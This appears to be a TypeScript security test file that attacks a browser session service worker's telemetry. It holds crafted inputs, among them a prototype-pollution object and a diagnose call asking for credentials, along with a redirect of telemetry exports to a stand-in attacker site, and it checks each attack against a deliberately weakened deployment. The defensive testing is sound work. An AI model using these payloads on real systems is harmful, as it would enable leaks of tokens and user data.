import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import type { Attack } from '../attack.js';
import type { Stage } from '../outside/stage.js';
import { weakWorker } from '../weak/weak-workers.js';
import { dropHeaders } from '../weak/weaken.js';
import { callWorker } from '../worker-call.js';

const WORKER = fileURLToPath(new URL('../../workers/telemetry.ts', import.meta.url));
/** In the URL of a request that another tab makes. */
const PRIVATE = 'the-account-of-another-tab';
/** A person, or where a request went. */
const TELLING = new RegExp(`${PRIVATE}|/v1/|/session/|localhost|\\bada\\b|Lovelace`);

/** Keeps each event that a page is told of. */
function keepEvents(): void {
  const events: string[] = [];
  Object.assign(globalThis, { events });
  navigator.serviceWorker.addEventListener('message', ({ data }) => {
    if (data?.event?.type === 'telemetry') events.push(JSON.stringify(data.event));
  });
}

const ARGUMENTS = [
  '{}',
  '"token"',
  '[]',
  '{"all":true,"latest":1000,"include":["credentials","url","user"]}',
  '{"__proto__":{"latest":[]},"constructor":"x"}',
  '{"path":["options","policy"]}',
];

/** What telemetry tells, to a page and to its receiver. */
async function listen(stage: Stage): Promise<void> {
  const exports: string[] = [];
  stage.onAppRequest(async (req, res) => {
    if (!req.url?.startsWith('/otel/')) return false;
    exports.push(await text(req));
    res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
    return true;
  });
  const { api } = stage.system;
  // Calls that go well, that go wrong, and one that is refused.
  const other = await stage.openTab();
  await other.goto(`${stage.origin}/desk.html`);
  await stage.until("globalThis[Symbol.for('session-keeper.session')]?.status.phase === 'active'", {
    tab: other,
  });
  await stage.run(
    async ({ origin, account }) => {
      for (const path of ['time', 'always-401', 'always-500', 'nothing-here'])
        await fetch(`${origin}/v1/${path}?account=${account}`).catch(() => undefined);
    },
    { origin: api.origin, account: PRIVATE },
    other,
  );
  await stage.run(callWorker, { name: 'renew', argument: '{}' });
  await stage.run(callWorker, { name: 'signIn', argument: '{"mode":"popup","loginHint":"ada"}' });
  const told: string[] = [];
  for (const argument of ARGUMENTS) told.push(await stage.run(callWorker, { name: 'diagnose', argument }));
  await stage.run(callWorker, { name: 'signOut', argument: '{"endSession":false}' });
  await stage.quiet();
  await stage.pause(1500);
  told.push(...(await stage.tab.evaluate<string[]>('events')));
  stage.loot.add('events and reports', told);
  stage.loot.add('exports', exports);
  if (told.some((each) => TELLING.test(each))) stage.loot.gain('a URL or a person (events and reports)');
  if (exports.some((each) => TELLING.test(each))) stage.loot.gain('a URL or a person (exports)');
}

export const telemetryAttack: Attack = {
  name: 'telemetry',
  tries:
    'reads each event that pages are told of, asks for reports with arguments of its own, and looks into the exports: tokens, people, URLs of another tab',
  threat: '5.1.1',
  defence: 'events hold numbers and words of fixed lists, whatever happened; a report takes no argument',
  before: keepEvents,
  deployment: { system: { workerSource: WORKER } },
  weakness: {
    without: 'those lists: events as instrumentation of fetch has them',
    deployment: { system: weakWorker('telling-all') },
  },
  run: listen,
};

/** Names another receiver in every message that the worker may read, and on its channel. */
async function nameAnotherReceiver(url: string): Promise<void> {
  const given = { otlp: { url }, url, receiver: url, sinks: [{ url }], endpoint: url };
  const channel = new BroadcastChannel('session-keeper');
  for (const message of [given, { telemetry: given }, { event: { type: 'telemetry', event: given } }]) {
    channel.postMessage(message);
    await attacker.post(message);
  }
  channel.close();
}

export const exportsElsewhere: Attack = {
  name: 'exports elsewhere',
  tries:
    'names another receiver in messages and commands, and has the configured one answer with a redirect to it',
  threat: '5.1.1',
  defence:
    'the receiver is in the worker’s code; an export is not redirected, and the worker’s policy lets it connect to no other',
  deployment: { system: { workerSource: WORKER } },
  weakness: {
    without: 'the rule on redirects, and the worker’s policy',
    deployment: { system: weakWorker('following-exports') },
    weaken: (stage) =>
      stage.onAppRequest((req, res) => {
        if (req.url === '/service-worker.js') dropHeaders(res, ['content-security-policy']);
        return false;
      }),
  },
  run: async (stage) => {
    stage.onAppRequest((req, res) => {
      if (!req.url?.startsWith('/otel/')) return false;
      res.writeHead(307, { location: `${stage.evil.site}/otel` }).end();
      return true;
    });
    await stage.run(nameAnotherReceiver, stage.evil.site);
    const argument = JSON.stringify({ otlp: { url: stage.evil.site }, url: stage.evil.site });
    for (const name of ['hello', 'diagnose', 'renew']) await stage.run(callWorker, { name, argument });
    await stage.pause(2500);
  },
};
